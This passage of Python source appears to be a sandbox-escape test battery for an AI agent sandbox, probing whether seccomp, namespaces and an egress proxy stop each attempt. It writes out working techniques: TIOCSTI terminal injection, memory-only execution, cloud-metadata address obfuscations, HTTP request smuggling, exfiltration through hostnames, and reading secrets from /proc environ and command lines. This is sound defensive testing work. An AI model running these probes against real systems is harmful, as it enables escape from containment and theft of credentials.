    found = run()
    if found != os.getpid():
        raise NotHere("this kernel runs no 32-bit programs")
    return f"getpid by int 0x80: {found}"


@attempt("60", "System V shared memory", KERNEL, "R", "seccomp")
def sysv(t: Targets) -> object:
    made = call("shmget", 0, 4096, 0o1600)
    call("shmctl", made, 0, None)
    return f"segment {made}"


@attempt("60b", "POSIX message queue", KERNEL, "R", "seccomp limits", fine=(errno.EMFILE,))
def message_queue(t: Targets) -> object:
    name = f"agent-os-battery-{os.getpid()}".encode()
    fd = call("mq_open", name, os.O_CREAT | os.O_RDWR, 0o600, None)
    call("mq_unlink", name)
    return f"queue {fd}"


@attempt("61", "modify_ldt", KERNEL, "R", "seccomp")
def modify_ldt(t: Targets) -> object:
    entry = struct.pack("IIII", 0, 0, 0xFFFFF, 0b1010001)
    call("modify_ldt", 1, entry, 16)
    read_back = ctypes.create_string_buffer(64)
    if not call("modify_ldt", 0, read_back, 64) or not any(read_back.raw):
        raise Refused("the table is empty")
    return "an entry of our own is in the table"


@attempt("62", "TIOCSTI: a byte typed into the terminal", KERNEL, "R", "seccomp launcher")
def tiocsti(t: Targets) -> object:
    with contextlib.suppress(OSError):
        os.setsid()
    master = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(master, 0x40045431, struct.pack("i", 0))  # TIOCSPTLCK: unlock
    terminal = fcntl.ioctl(master, 0x5441, os.O_RDWR | os.O_NOCTTY)  # TIOCGPTPEER
    fcntl.ioctl(terminal, 0x540E, 0)  # TIOCSCTTY
    fcntl.ioctl(terminal, 0x5412, b"\n")
    if not select.select([terminal], [], [], 2)[0]:
        raise Refused("nothing was typed")
    return f"typed {os.read(terminal, 1)!r}"


@attempt("63", "TIOCLINUX: paste into the console", KERNEL, "R", "seccomp", "n/a: needs a text console of one's own")
def tioclinux(t: Targets) -> object:
    console = os.open("/dev/tty0", os.O_RDWR)
    return f"{fcntl.ioctl(console, 0x541C, bytes([3]))}"


@attempt("64", "run a program from memory", KERNEL, "R", "seccomp")
def memfd_exec(t: Targets) -> object:
    text = read("/bin/true", 1 << 24)

    def run(flags: int, by_path: bool) -> str:
        fd = call("memfd_create", b"battery", flags)
        os.write(fd, text)
        held = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY)
        os.close(fd)
        ours, theirs = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                if by_path:
                    os.execv(f"/proc/self/fd/{held}", ["true"])
                empty = (ctypes.c_char_p * 2)(b"true", None)
                call("execveat", held, b"", empty, (ctypes.c_char_p * 1)(None), 0x1000)
            except OSError as problem:
                os.write(theirs, struct.pack("i", problem.errno or 0))
            finally:
                os._exit(1)
        os.close(theirs)
        os.waitpid(pid, 0)
        if failed := os.read(ours, 4):
            raise OSError(struct.unpack("i", failed)[0], "exec")
        return "ran"

    ways = {f"{flags}{path}": (flags, path) for flags in (0, 0x10, 8) for path in (False, True)}
    return first_that_works({name: lambda way=way: run(*way) for name, way in ways.items()})


# -------------------------------------------------------------------------------------------------------------- network


def _ask(family: int, address: object, kind: int = socket.SOCK_STREAM) -> bytes:
    with socket.socket(family, kind) as sock:
        sock.settimeout(2)
        sock.connect(address)  # type: ignore[arg-type]
        return sock.recv(999)


@attempt("66", "connect to a service on the host's loopback", NETWORK, "C", "namespaces landlock:4 seccomp")
def connect_out(t: Targets) -> object:
    places = [(socket.AF_INET, ("127.0.0.1", t["port"])), (socket.AF_INET6, ("::1", t["port"]))]
    return gather([lambda place=place: _ask(*place) for place in places])


@attempt("67", "connect to a named socket of the host", NETWORK, "C", "namespaces seccomp")
def unix_socket(t: Targets) -> object:
    return _ask(socket.AF_UNIX, t["named_socket"])


@attempt("67b", "send from one end of a datagram pair to a named socket", NETWORK, "R", "seccomp")
def datagram_pair(t: Targets) -> object:
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    sent = one.sendto(b"hello", t["bound_datagram"])
    return f"{sent} bytes reached a service of the host"


@attempt("108", "a host service's socket bound into the sandbox", NETWORK, "C", "seccomp")
def bound_socket(t: Targets) -> object:
    return gather([lambda kind=kind: _ask(socket.AF_UNIX, t["bound_socket"], kind) for kind in (1, 5)])


@attempt("68", "connect to an abstract socket of the host", NETWORK, "C", "namespaces landlock:6 seccomp")
def abstract_socket(t: Targets) -> object:
    return _ask(socket.AF_UNIX, "\0" + t["abstract"])


@attempt("69", "netlink", NETWORK, "R", "seccomp")
def netlink(t: Targets) -> object:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(2)
        sock.send(struct.pack("IHHII", 32, 18, 0x301, 1, 0) + bytes(16))
        return f"{len(sock.recv(65536))} bytes about the interfaces"


@attempt("70", "packet and raw sockets", NETWORK, "R", "namespaces capabilities seccomp", "box")
def raw_sockets(t: Targets) -> object:
    kinds = {"packet": (17, 3, 0), "raw": (2, 3, 1), "icmp": (2, 2, 1), "raw6": (10, 3, 58)}
    return first_that_works({name: lambda kind=kind: _open(*kind) for name, kind in kinds.items()})


@attempt("71", "AF_ALG, Bluetooth, XDP, vsock and other rare families", NETWORK, "R", "seccomp", "box")
def rare_sockets(t: Targets) -> object:
    families = {"alg": (38, 5), "bluetooth": (31, 3), "xdp": (44, 3), "vsock": (40, 1), "kcm": (41, 5), "tipc": (30, 5)}
    return first_that_works({name: lambda kind=kind: _open(*kind) for name, kind in families.items()})


def _open(family: int, kind: int, protocol: int = 0) -> str:
    with socket.socket(family, kind, protocol) as sock:
        return f"socket {sock.fileno()}"


def through_proxy(t: Targets, first: bytes, then: bytes = b"") -> bytes:
    """One request to the proxy; after a CONNECT that worked also `then`. All that came back."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(tuple(t["proxy"]))
        sock.sendall(first)
        answer = b""
        try:
            while part := sock.recv(4096):
                answer += part
                if then and b"\r\n\r\n" in answer:
                    sock.sendall(then)
                    then = b""
        except TimeoutError:
            answer += b" [timeout]"
        return answer


def connect_through(t: Targets, place: str, then: bytes = b"\r\n") -> bytes:
    return through_proxy(t, f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode(), then)


def get_through(t: Targets, host: str) -> bytes:
    return through_proxy(t, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


@attempt("72", "carry data out in the name of a denied host", NETWORK, "C", "egress")
def data_in_name(t: Targets) -> object:
    name = f"{t['label']}.denied.test"
    with contextlib.suppress(OSError, UnicodeError):
        socket.getaddrinfo(name, 443)
    return gather([lambda: connect_through(t, f"{name}:443"), lambda: get_through(t, name)])


METADATA = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xa9.0xfe.43518"]
METADATA += ["[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "100.100.100.200"]
METADATA += [
    "[fd00:ec2::254]",
    "metadata.granted.test",
    "mapped.granted.test",
    "169.254.169.254.",
    "169.254.169.254%00",
]


@attempt("73", "metadata addresses in every spelling", NETWORK, "C", "egress")
def metadata(t: Targets) -> object:
    takes: list[Callable[[], object]] = [lambda host=host: get_through(t, host) for host in METADATA]
    return gather(takes + [lambda host=host: connect_through(t, f"{host}:80") for host in METADATA])


@attempt("75", "CONNECT to ports 22 and 25 of an allowed host", NETWORK, "C", "egress")
def odd_ports(t: Targets) -> object:
    return gather([lambda port=port: connect_through(t, f"granted.test:{port}") for port in (22, 25)])


@attempt("76", "TLS for another name than the CONNECT", NETWORK, "C", "egress")
def other_sni(t: Targets) -> object:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(incoming, outgoing, server_hostname="other.test")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return connect_through(t, "granted.test:443", outgoing.read())


@attempt("77", "follow a redirect to a denied host", NETWORK, "C", "egress")
def redirect(t: Targets) -> object:
    answer = get_through(t, "granted.test")
    found = re.search(rb"Location: http://([a-z.]+)/", answer, re.IGNORECASE)
    return get_through(t, found[1].decode()) if found else answer.replace(b"SECRET", b"no redirect: ")


@attempt("77b", "a Host header for another host than the one asked for", NETWORK, "C", "egress")
def other_host_header(t: Targets) -> object:
    text = "GET http://granted.test/ HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n"
    return through_proxy(t, text.encode())


@attempt("77c", "a second request on the same connection, for a denied host", NETWORK, "C", "egress")
def pipelined(t: Targets) -> object:
    one = "GET http://www.granted.test/ HTTP/1.1\r\nHost: www.granted.test\r\n\r\n"
    two = "GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n"
    return through_proxy(t, (one + two).encode())


@attempt("77d", "a request hidden in the body of another", NETWORK, "C", "egress")
def smuggled(t: Targets) -> object:
    hidden = b"GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    head = b"POST http://www.granted.test/ HTTP/1.1\r\nHost: www.granted.test\r\n"
    both = b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(hidden))
    odd = b"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n"
    return gather([lambda body=body: through_proxy(t, head + body + hidden) for body in (both, odd)])


@attempt("110", "the host's loopback through the proxy", NETWORK, "C", "egress")
def proxy_loopback(t: Targets) -> object:
    hosts = ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "0x7f000001", "[::ffff:127.0.0.1]", "[::]"]
    hosts += ["loopback.granted.test"]
    takes: list[Callable[[], object]] = [lambda host=host: connect_through(t, f"{host}:{t['port']}") for host in hosts]
    return gather(takes + [lambda host=host: get_through(t, f"{host}:{t['port']}") for host in hosts])


# ---------------------------------------------------------------------------------------------------------------- leaks


@attempt("80", "inherited descriptors, host paths by readlink", LEAKS, "R", "launcher")
def descriptors(t: Targets) -> object:
    found = {fd: link for fd, link in t["descriptors"].items() if int(fd) > (3 if t.get("agent_fd") else 2)}
    found |= {fd: link for fd, link in t["descriptors"].items() if link.startswith("/") and link != "/dev/null"}
    if not found:
        raise Refused(f"only {t['descriptors']}")
    return json.dumps(found)


@attempt("81", "the environment of the kernel", LEAKS, "C", "launcher")
def environment(t: Targets) -> object:
    own = repr(dict(os.environ)).encode()
    return own + gather([lambda pid=pid: read(f"/proc/{pid}/environ") for pid in ("self", "1", os.getppid())])


@attempt("82", "a secret in any command line", LEAKS, "C", "namespaces")
def command_lines(t: Targets) -> object:
    return gather([lambda pid=pid: read(f"/proc/{pid}/cmdline") for pid in pids()])


@attempt("83", "core dump", LEAKS, "R", "limits", fine=(errno.EINVAL,))
def core_dump(t: Targets) -> object:
    pid = os.fork()
    if pid == 0:
        hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
        _libc.prctl(4, 1, 0, 0, 0)  # dumpable
        os.chdir(t["work"])
        signal.signal(signal.SIGABRT, signal.SIG_DFL)
        os.abort()
    _, status = os.waitpid(pid, 0)
    for name in os.listdir(t["work"]):
        if name.startswith("core"):
            os.unlink(f"{t['work']}/{name}")
    if not os.WCOREDUMP(status):
        raise Refused("no core was written")
    return "the memory was written to a core"


@attempt("84", "equal random streams in two agents", LEAKS, "R", "launcher")
def random_stream(t: Targets) -> object:
    """Says what it drew; whoever started two of us compares."""
    raise Refused(f"drew {random.getrandbits(128):032x}")


@attempt(
    "86", "flood of descriptors on the kernel's socket", LEAKS, "R", "", "n/a: the kernel reads no agent socket yet"
)
def descriptor_flood(t: Targets) -> object:
    raise NotHere("the kernel reads no agent socket yet")


@attempt("65", "a program of the workspace by ld.so", LEAKS, "R", "", "recorded: a loader or interpreter runs anything")
def by_loader(t: Targets) -> object:
    path = f"{t['work']}/program{os.getpid()}"
    with open(path, "wb") as file:
        file.write(read("/bin/true", 1 << 24))
    loader = next(
        f"{top}/{name}" for top in ("/lib64", "/lib") for name in sorted(os.listdir(top)) if name[:3] == "ld-"
    )
    try:
        return f"exit code {subprocess.run([loader, path]).returncode}"
    finally:
        os.unlink(path)


@attempt("85", "the host's load average", LEAKS, "R", "", "recorded: timing channels are not promised")
def load_average(t: Targets) -> object:
    return f"{os.getloadavg()}"


@attempt("85b", "names of programs that others start, by inotify on /usr", LEAKS, "R", "", "recorded: shared inodes")
def watch_programs(t: Targets) -> object:
    fd = _libc.inotify_init()
    if _libc.inotify_add_watch(fd, b"/usr/bin", 0x21) < 0:
        raise OSError(ctypes.get_errno(), "inotify_add_watch")
    return "a watch on /usr/bin"


@attempt("80b", "host paths of mount sources in mountinfo", LEAKS, "R", "", "recorded: Linux shows them")
def mount_sources(t: Targets) -> object:
    roots = {line.split()[3] for line in read("/proc/self/mountinfo").decode().splitlines()}
    if len(roots) < 2:
        raise Refused("only /")
    return " ".join(sorted(roots))[:160]


# ------------------------------------------------------------------------------------------------------------ resources


@attempt("91", "lock memory", RESOURCES, "R", "limits", fine=(errno.ENOMEM,))
def mlock(t: Targets) -> object:
    page = mmap.mmap(-1, 1 << 16)
    call("mlock", ctypes.addressof(ctypes.c_char.from_buffer(page)), 1 << 16)
    locked = next(line for line in read("/proc/self/status").splitlines() if line.startswith(b"VmLck"))
    if locked.split()[1] == b"0":
        raise Refused("nothing is locked")
    return locked.decode()


# --------------------------------------------------------------------------------------------------------------- runner

REFUSALS = frozenset(
    getattr(errno, name)
    for name in """EPERM EACCES ENOENT ENOTDIR ESRCH EROFS ENOSYS ENETUNREACH EHOSTUNREACH ECONNREFUSED ETIMEDOUT
    EAFNOSUPPORT EPROTONOSUPPORT ESOCKTNOSUPPORT ENXIO ENODEV EBUSY""".split()
)


def judge(one: Attempt, targets: Targets) -> tuple[str, str]:
    try:
        found = one.take(targets)
    except Refused as refusal:
        return "refused", str(refusal)
    except NotHere as reason:
        return "n/a", str(reason)
    except OSError as problem:
        name = errno.errorcode.get(problem.errno or 0, str(problem))
        held = problem.errno in REFUSALS | one.fine or isinstance(problem, TimeoutError)
        return ("refused" if held else "broken"), f"{name}"
    if one.detect != "C":
        return "succeeded", str(found)
    data = found if isinstance(found, bytes) else str(found).encode()
    if SECRET.search(data):
        return "succeeded", SECRET.findall(data)[0].decode()
    return "refused", " ".join(data.decode("latin-1").split())[:160]


def in_child(one: Attempt, targets: Targets, private_mounts: bool) -> tuple[str, str]:
    """In a process of its own: what kills it or blocks it is an outcome, too."""
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(ours)
            os.setsid()
            if private_mounts:
                with contextlib.suppress(OSError):  # refused under a layer; then nothing can be mounted either
                    call("unshare", NEWNS)
            result = judge(one, targets)
        except BaseException as problem:  # a mistake in the attempt itself must be seen, whatever it is
            result = "broken", f"{type(problem).__name__}: {problem}"
        os.write(theirs, json.dumps(result).encode()[:60000])
        os._exit(0)
    os.close(theirs)
    text = b""
    if select.select([ours], [], [], TRIES_SECONDS * targets.get("patience", 1))[0]:
        while part := os.read(ours, 65536):
            text += part
            if text.endswith(b"]"):
                break
        late = False
    else:
        late = True
    with contextlib.suppress(OSError):
        os.killpg(pid, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
    _, status = os.waitpid(pid, 0)
    os.close(ours)
    if text:
        outcome, detail = json.loads(text)
        return outcome, detail
    if late:
        return "broken", f"no end within {TRIES_SECONDS:.0f} s"
    if os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGSYS:
        return "refused", "killed by seccomp"
    return "broken", f"ended with wait status {status}"


def run(ids: list[str], targets: Targets, private_mounts: bool = False) -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for id in ids:
        one = ATTEMPTS[id]
        outcome, detail = in_child(one, targets, private_mounts)
        print(json.dumps({"id": id, "outcome": outcome, "detail": detail}), flush=True)


def own_descriptors() -> dict[str, str]:
    found: dict[str, str] = {}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):  # the listing's own is gone already
            found[name] = os.readlink(f"/proc/self/fd/{name}")
    return found
